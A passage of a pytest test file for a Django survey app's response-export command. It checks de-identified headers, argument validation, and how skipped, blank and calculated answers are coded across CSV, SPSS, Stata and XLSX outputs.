    call_command("export_responses", survey.slug, "--deidentified", stderr=io.StringIO())
    header = capsys.readouterr().out.splitlines()[0].split(",")
    assert header[0] == "roster_school_code" and "roster_external_id" not in header and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("arguments, message", [
    (["--format", "spss"], "An spss export needs --output FILE"),
    (["--format", "stata", "--output", "r.csv"], "A stata export's --output is its data file, ending .dat"),
    (["--format", "xlsx", "--output", "r.csv"], "ending .xlsx"),
    (["--roster-fields", "grade,pin"], r"Unknown roster field\(s\): pin"),
    (["--output", "absent/r.csv"], "No directory absent"),
    (["--multiple", "rows"], "invalid choice: 'rows'"),
])
def test_the_command_refuses_bad_combinations(survey, tmp_path, monkeypatch, arguments, message):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CommandError, match=message):
        call_command("export_responses", survey.slug, *arguments)
    assert list(tmp_path.iterdir()) == []


def test_a_state_wide_xlsx_is_written_with_zip64_and_a_school_s_without():
    from exports.writers import xlsx_needs_zip64

    # A million respondents by 70 columns made XlsxWriter refuse to close the file (make bench-export).
    assert xlsx_needs_zip64(rows=1_000_000, columns=70)
    assert not xlsx_needs_zip64(rows=2_000, columns=70)


# ---------------------------------------------------------------- skip logic: not asked is not blank

@pytest.fixture
def demo_answers(client):
    """The demo survey: a student who was a teacher first (their teaching answers kept), and a parent."""
    from respondents.models import Answer
    from surveys.tests.factories import make_demo_survey

    survey = make_demo_survey()
    former_teacher, parent = make_respondents(survey, count=2)
    login(client, former_teacher)
    save_page(client, 1, {"q-role": "teacher", "q-grade_taught": "9", "q-years_at_school": "3"})
    save_page(client, 5, {"q-teach_years": "12", "q-teach_time": "2"})
    save_page(client, 1, {"q-role": "student", "q-grade": "9", "q-years_at_school": "3"})
    save_page(client, 13, {"q-overall": "4"})
    client.post("/logout/")
    login(client, parent)
    save_page(client, 1, {"q-role": "parent", "q-grade_child": "6"})
    save_page(client, 13, {"q-overall": "1", "q-overall_why": "Too few buses."})
    assert Answer.objects.filter(respondent=former_teacher, question__code="teach_years").get().value == "12"
    return survey


def test_a_question_not_asked_is_exported_as_not_applicable_distinct_from_blank(demo_answers, tmp_path):
    student, parent = csv_rows(export(demo_answers, tmp_path, "csv").data)
    # The former teacher's answers stay in the database, but a student was not asked them.
    assert (student["teach_years"], student["teach_time"], student["grade_taught"]) == ("NA", "NA", "NA")
    assert (student["grade"], student["grade_child"], student["overall_why"]) == ("9", "NA", "NA")
    assert student["first_day"] == ""  # asked, left blank
    assert (parent["grade_child"], parent["overall_why"], parent["teach_years"]) == ("6", "Too few buses.", "NA")
    assert parent["tired"] == ""  # asked, page never saved


def test_statistics_data_codes_not_asked_as_minus_97_and_the_syntax_declares_it(demo_answers, tmp_path):
    result = export(demo_answers, tmp_path, "spss", roster_fields=("respondent_id",))
    student, parent = spss_rows(result)
    assert (student["teach_years"], student["teach_time"], student["grade_child"]) == ("-97", "-97", "-97")
    assert (student["overall_why"], parent["overall_why"]) == ("NA", "Too few buses.")  # free text: no codes
    assert (parent["tired"], student["first_day"]) == ("-99", "-98")
    sps = result.syntax.read_text()
    assert '    -97 "Not asked: its skip logic (show_if) did not hold"' in sps
    (tmp_path / "stata").mkdir()
    do = export(demo_answers, tmp_path / "stata", "stata").syntax.read_text()
    assert "-97=.c" in do


def test_an_xlsx_number_column_holds_only_numbers_and_a_question_not_asked_there_is_empty(demo_answers, tmp_path):
    from openpyxl import load_workbook

    result = export(demo_answers, tmp_path, "xlsx")
    sheet = load_workbook(result.data).active
    header = [cell.value for cell in sheet[1]]
    student, parent = ({name: cell for name, cell in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2))
    # An integer question (teach_years) and a grid row on numeric choices (teach_time) were not asked of the student.
    assert (student["teach_years"].value, student["teach_time"].value) == (None, None)
    assert (parent["teach_years"].value, student["years_at_school"].value) == (None, 3)
    assert student["years_at_school"].data_type == "n"
    # A text column still says NA for not asked.
    assert (student["overall_why"].value, parent["overall_why"].value) == ("NA", "Too few buses.")
    _, variables = xlsx_rows(result.codebook, "Variables")
    missing = {row[0]: row[10] for row in variables[1:]}
    assert missing["teach_years"] == "empty: page not saved, left blank, or not asked (skip logic)"
    assert missing["overall_why"] == "empty: page not saved or left blank; NA: not asked (skip logic)"


def test_a_number_whose_answers_could_equal_a_code_is_empty_when_not_asked_in_spss_and_stata(client, tmp_path):
    from surveys.services import survey_create

    survey = survey_create(document={"slug": "smoke", "title": "Smoke", "status": "open", "pages": [{"questions": [
        {"code": "smoker", "kind": "single", "prompt": "Do you smoke?",
         "choices": [{"value": "yes", "label": "Yes"}, {"value": "no", "label": "No"}]},
        {"code": "change", "kind": "integer", "prompt": "By how many a day has it changed?",
         "show_if": {"op": "equals", "q": "smoker", "value": "yes"}}]}]})
    login(client, make_respondents(survey))
    assert save_page(client, 1, {"q-smoker": "no"}, nav="finish").json()["completed"]
    assert spss_rows(export(survey, tmp_path, "spss", roster_fields=()))[0]["change"] == ""
    assert csv_rows(export(survey, tmp_path, "csv", roster_fields=()).data)[0]["change"] == "NA"


def test_the_codebook_says_when_each_question_is_asked(demo_answers, tmp_path):
    _, variables = xlsx_rows(export(demo_answers, tmp_path, "csv", roster_fields=()).codebook, "Variables")
    rows = {row[0]: dict(zip(variables[0], row, strict=True)) for row in variables[1:]}
    assert rows["role"]["asked when"] == "always"
    assert rows["teach_years"]["asked when"] == (
        'if you chose “Teacher” for “Which best describes you?”\n'
        '{"op": "equals", "q": "role", "value": "teacher"}')
    assert rows["overall_why"]["asked when"].startswith("if you chose “Very poor” or “Poor” for “Overall,")


def test_a_decimal_answer_is_a_number_in_every_format(client, tmp_path):
    from exports.writers import responses_write_xlsx
    from surveys.services import survey_create

    survey = survey_create(document={"slug": "sleep", "title": "Sleep", "status": "open", "pages": [{"questions": [
        {"code": "hours", "kind": "decimal", "prompt": "Hours?", "min": 0, "max": 24}]}]})
    login(client, make_respondents(survey))
    assert save_page(client, 1, {"q-hours": "7.50"}, nav="finish").json()["completed"] is True
    responses_write_xlsx(survey=survey, path=tmp_path / "sleep.xlsx", options=None)
    header, row = xlsx_rows(tmp_path / "sleep.xlsx")[1][:2]
    assert row[header.index("hours")] == 7.5
    assert spss_rows(export(survey, tmp_path, "spss"))[0]["hours"] == "7.50"


def test_calculations_are_exported_as_variables_computed_from_each_respondent_s_answers(tmp_path):
    from django.test import Client

    from surveys.services import survey_create

    survey = survey_create(document={"slug": "calc", "title": "Calc", "status": "open", "pages": [
        {"questions": [
            {"code": "adults", "kind": "integer", "prompt": "Adults"},
            {"code": "children", "kind": "integer", "prompt": "Children"},
            {"code": "people", "kind": "calculate", "prompt": "People",
             "calculation": {"fn": "add", "args": [{"q": "adults"}, {"q": "children"}]}},
            {"code": "size", "kind": "calculate",
             "calculation": {"fn": "if", "args": [{"op": "gt", "q": "people", "value": 4}, "large", "small"]}}]}]})
    first, second = make_respondents(survey, 2)
    for respondent, answers in ((first, {"q-adults": "2", "q-children": "3"}), (second, {"q-adults": "1"})):
        client = Client()
        login(client, respondent)
        save_page(client, 1, answers)
    out = io.StringIO()
    responses_write_csv(survey=survey, stream=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["people"], r["size"]) for r in rows] == [("5", "large"), ("", "small")]
